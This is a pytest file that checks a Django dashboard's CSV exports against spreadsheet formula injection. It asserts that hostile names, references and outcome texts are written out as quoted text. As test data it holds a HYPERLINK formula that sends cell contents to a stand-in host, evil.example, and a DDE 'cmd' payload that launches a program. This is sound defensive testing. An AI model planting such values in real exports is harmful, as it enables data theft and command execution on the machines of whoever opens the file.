"""Every CSV export is safe to open in a spreadsheet: a name, reference or text that a spreadsheet would
read as a formula arrives as text (a single quote in front), whichever export carries it.

The records are the dashboard's test data (tests/dashboard/dashboard_data.py) with hostile values put
where people type them: a team's name, a case reference, a member of staff's name, a process's name and
a required outcome's words. Each export URL is read as the head of service (who sees every table).
"""

import csv
import io

import pytest
from django.contrib.auth import get_user_model

from cases.models import Case
from core.csv_export import FORMULA_TRIGGERS
from dashboard.selectors import TABLE_KEYS
from dashboard.services import rollup_refresh
from processes.models import Process, RequiredOutcome
from tests.dashboard.dashboard_data import TODAY, build
from timeliness.models import DueItem
from workforce.models import Team

pytestmark = pytest.mark.django_db

TEAM = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
REFERENCE = "+CASE-A1"
STAFF = "@SUM(1+1)"
PROCESS = "-2+3 process"
OUTCOME = "=cmd|' /C calc'!A0"
TAB = "\tTabbed name"


@pytest.fixture
def hostile(cast):
    build(cast, audits=30)
    Team.objects.filter(pk=cast.teams["assessment"].pk).update(name=TEAM)
    Team.objects.filter(pk=cast.teams["yos"].pk).update(name=TAB)
    Case.objects.filter(pk=cast.cases["assessment"].pk).update(reference=REFERENCE)
    get_user_model().objects.filter(pk=cast["tm.assessment"].pk).update(first_name=STAFF, last_name="")
    DueItem.objects.update(responsible=cast["tm.assessment"])
    Process.objects.filter(key="dash-cic").update(name=PROCESS)
    RequiredOutcome.objects.filter(process__key="dash-cic").update(text=OUTCOME)
    rollup_refresh(today=TODAY)
    return cast


def exported(client, user, url) -> list[list[str]]:
    client.force_login(user)
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.getvalue().decode())))


def assert_safe(rows, *hostile_values):
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    for value in hostile_values:
        assert "'" + value in cells, f"{value!r} is not in the export as text"


def test_the_case_export_writes_a_hostile_reference_team_and_worker_as_text(client, hostile):
    Case.objects.filter(reference=REFERENCE).update(allocated_worker=hostile["tm.assessment"])
    assert_safe(exported(client, hostile["hos"], "/cases/export.csv"), REFERENCE, TEAM, TAB, STAFF)


def test_the_audit_export_writes_a_hostile_process_subject_team_and_author_as_text(client, hostile):
    assert_safe(exported(client, hostile["hos"], "/audits/export.csv"), PROCESS, TEAM, STAFF)


def test_the_due_export_writes_a_hostile_process_subject_team_and_person_as_text(client, hostile):
    assert_safe(exported(client, hostile["hos"], "/due/export.csv"), PROCESS, TEAM, STAFF)


# The hostile values each dashboard table carries (the rest of its cells must be safe all the same).
DASHBOARD_VALUES = {
    "timeliness_area": [],
    "timeliness_process": [PROCESS],
    "timeliness_team": [TEAM, TAB],
    "outcomes_process": [PROCESS],
    "outcomes_outcome": [PROCESS, OUTCOME],
    "themes": [PROCESS, OUTCOME],
    "grades": [],
    "moderation": [PROCESS],
    "coverage": [TEAM, TAB],
    "trends": [],
    "never_audited": [TEAM],
}


def test_every_dashboard_table_is_covered_here():
    assert set(DASHBOARD_VALUES) == set(TABLE_KEYS)


@pytest.mark.parametrize("key", TABLE_KEYS)
def test_each_dashboard_export_writes_hostile_names_as_text(client, hostile, key):
    assert_safe(exported(client, hostile["hos"], f"/dashboard/export.csv?table={key}"), *DASHBOARD_VALUES[key])


def test_the_aggregate_only_export_is_guarded_too(client, hostile):
    assert_safe(exported(client, hostile["scrutiny"], "/dashboard/export.csv?table=timeliness_team"), TEAM)
